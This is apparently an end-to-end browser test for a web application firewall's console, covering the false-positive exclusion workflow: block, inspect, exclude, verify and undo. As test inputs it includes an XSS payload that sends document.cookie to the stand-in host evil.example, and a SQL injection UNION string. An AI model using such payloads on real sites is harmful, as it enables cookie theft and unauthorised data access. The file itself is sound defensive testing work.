// The way out of a false positive as a new user goes it, in a browser, against a running Rampart: an
// ordinary request is blocked, found, understood, tried, excluded, and passes; attacks do not; undone.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { requires } from '../support/requires.ts';
import { RunningRampart } from '../support/running-rampart.ts';
import { NARROW, overflowsSideways, startBrowser, watchPage, WIDE } from './browser.ts';

const PASSWORD = 'a quiet harbour at dawn';
const WAIT_MS = 60_000;
/** What someone writes in a forum about databases. */
const QUESTION = "Why does x' UNION SELECT name, price FROM products -- return both lists?";
const ATTACK = '<script>fetch("//evil.example/?c=" + document.cookie)</script>';
/** Where to keep pictures of every page, for eyes: RAMPART_TEST_PICTURES=/tmp/pictures. */
const PICTURES = process.env['RAMPART_TEST_PICTURES'];

describe(
  'a false alarm in the console',
  { ...requires('program:chromium'), timeout: 240_000 },
  () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'rampart-false-alarm-'));
    const config = path.join(folder, 'rampart.yaml');
    const upstream = createServer((_request, response) => response.end('posted'));
    let rampart: RunningRampart;
    let browser: Browser;
    let page: Page;
    let gateway = '';
    let origin = '';
    let setupUrl = '';
    let complaints: readonly string[] = [];

    before(async () => {
      await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
      const { port } = upstream.address() as AddressInfo;
      const data = path.join(folder, 'data');
      writeFileSync(
        config,
        JSON.stringify({
          data,
          console: { listen: '127.0.0.1:0' },
          gateway: { listen: '127.0.0.1:0', threads: 1 },
          sites: [{ name: 'forum', upstream: `http://127.0.0.1:${port}` }],
        }),
      );
      rampart = new RunningRampart(data, ['-c', config]);
      const facts = await rampart.ready();
      gateway = facts.listen[0]!;
      origin = facts.consoleUrl;
      setupUrl = facts.setupUrl;
      browser = await startBrowser();
    });
    after(async () => {
      await browser?.close();
      await rampart?.dispose();
      upstream.close();
      rmSync(folder, { recursive: true, force: true });
    });

    const post = async (text: string, field = 'text') => {
      const body = new URLSearchParams({ [field]: text, lang: 'en' });
      const response = await fetch(`${gateway}/questions`, { method: 'POST', body });
      await response.arrayBuffer();
      return { status: response.status, id: response.headers.get('x-request-id') ?? '' };
    };
    const untilStatus = async (text: string, status: number): Promise<void> => {
      while ((await post(text)).status !== status) await page.waitForTimeout(100);
    };

    test('an ordinary request is blocked; a new user signs in and finds it', async () => {
      const blocked = await post(QUESTION);
      assert.equal(blocked.status, 403);
      const context = await browser.newContext({
        viewport: WIDE,
        locale: 'en-GB',
        colorScheme: 'light',
        reducedMotion: 'reduce',
      });
      context.setDefaultTimeout(WAIT_MS);
      page = await context.newPage();
      complaints = watchPage(page, origin);
      await page.goto(setupUrl);
      await page.getByLabel('Name').fill('ann');
      await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
      await page.getByLabel('Repeat the password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Create admin' }).click();
      await page.getByRole('link', { name: 'Requests' }).click();
      const row = page.locator('.request-row', { hasText: '/questions' });
      await row.first().getByRole('link').first().click();
      await page.getByText('Blocked: rule 10200').waitFor();
    });

    test('it is understood: rule, value, evidence', async () => {
      const match = page.locator('.match', { hasText: 'SQL injection' });
      await match.getByText('ARGS:text').first().waitFor();
      assert.match(await match.locator('.snippet-value').innerText(), /UNION SELECT name, price/);
      assert.ok((await match.locator('mark').count()) > 0, 'what was found is marked');
    });

    test('it is tried before it is applied', async () => {
      await page.getByRole('button', { name: 'False alarm? Exclude it' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByText('Rule 10200 no longer looks at the parameter “text”').waitFor();
      await dialog
        .getByText('would have allowed 1 more request, 0 of them look like attacks')
        .waitFor();
      await dialog.getByText('would have blocked 0 more').waitFor();
      await dialog.getByText('ctl:ruleRemoveTargetById=10200;ARGS:text').waitFor();
      await dialog.getByText('Judged by the matches on record').waitFor();
      assert.equal((await post(QUESTION)).status, 403, 'nothing is changed yet');
      await takePictures('dialog');
    });

    test('applied, it passes, and an attack on the same parameter does not', async () => {
      const dialog = page.getByRole('dialog');
      await dialog.getByLabel('Reason').fill('People ask about SQL here');
      await dialog.getByRole('button', { name: 'Exclude', exact: true }).click();
      await dialog.getByText('In force. The same request passes now.').waitFor();
      assert.equal((await post(QUESTION)).status, 200);
      assert.equal((await post(ATTACK)).status, 403, 'another attack on the same parameter');
      assert.equal((await post(QUESTION, 'title')).status, 403, 'another parameter');
      await dialog.getByRole('button', { name: 'Close' }).last().click();
      await page.getByRole('link', { name: 'Excluded' }).click();
    });

    test('the list says what, why and who; undoing it works and is audited', async () => {
      const row = page.locator('tr', { hasText: 'People ask about SQL here' });
      await row.getByText('In force').waitFor();
      await row.getByText('ann').waitFor();
      await page.getByText('Blocks already').waitFor();
      await takePictures('tuning');
      await row.getByRole('button', { name: 'Undo' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'Undo' }).click();
      await page.getByText('There are none.').waitFor();
      await untilStatus(QUESTION, 403);
      await page.getByLabel('Show those that are over').check();
      await page.getByText('Undone', { exact: true }).waitFor();
      await page.getByRole('link', { name: 'Audit' }).click();
      await page
        .getByText('Undid the exclusion of the parameter “text” from rule 10200 (Only /questions)')
        .waitFor();
      assert.deepEqual(complaints, []);
    });

    test('an attack that stands alone is not taken for a false alarm', async () => {
      const attack = await post("' UNION SELECT name, price FROM products--", 'title');
      assert.equal(attack.status, 403);
      // The list shows it once it is stored; before that its page would be asked for in vain.
      await page.goto(`${origin}/requests`);
      await page.locator(`a[href*="${attack.id}"]`).first().waitFor();
      await page.goto(`${origin}/requests/${attack.id}`);
      await page.getByRole('button', { name: 'False alarm? Exclude it' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByText('2 more requests, 1 of them looks like an attack').waitFor();
      await dialog.getByText('the value is little but a payload').waitFor();
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      assert.equal(await focusedText(), 'False alarm? Exclude it', 'focus is where it was');
    });

    test('an exclusion whose rule is gone is said to be without effect', async () => {
      await page.getByRole('button', { name: 'False alarm? Exclude it' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByLabel('Reason').fill('Titles hold SQL');
      await dialog.getByRole('button', { name: 'Exclude', exact: true }).click();
      await dialog.getByText('In force. The same request passes now.').waitFor();
      const rules = path.join(folder, 'other.conf');
      writeFileSync(rules, 'SecRule ARGS "@contains nobody" "id:100,phase:2,deny"\n');
      const text = readFileSync(config, 'utf8');
      writeFileSync(config, text.replace('"upstream"', `"waf":{"rules":["${rules}"]},"upstream"`));
      await page.goto(`${origin}/tuning`);
      const row = page.locator('tr', { hasText: 'Titles hold SQL' });
      await row.getByText('Without effect').waitFor();
      await row.getByText('The site has no such rule any more').waitFor();
      await row.getByRole('button', { name: 'Undo' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'Undo' }).click();
      await page.getByText('There are none.').waitFor();
      assert.deepEqual(complaints, []);
    });

    /** As text: the tests are not compiled for a browser. */
    async function focusedText(): Promise<unknown> {
      return page.evaluate('document.activeElement.innerText');
    }

    /** At both widths, in both languages and both colours nothing may stick out. */
    async function takePictures(name: string): Promise<void> {
      for (const [size, viewport] of Object.entries({ wide: WIDE, narrow: NARROW })) {
        for (const colorScheme of ['light', 'dark'] as const) {
          await page.setViewportSize(viewport);
          await page.emulateMedia({ colorScheme });
          assert.ok(!(await overflowsSideways(page)), `${name} at ${size}, ${colorScheme}`);
          if (PICTURES === undefined) continue;
          mkdirSync(PICTURES, { recursive: true });
          const file = path.join(PICTURES, `${name}-${size}-${colorScheme}.png`);
          await page.screenshot({ path: file });
        }
      }
      await page.setViewportSize(WIDE);
      await page.emulateMedia({ colorScheme: 'light' });
    }
  },
);
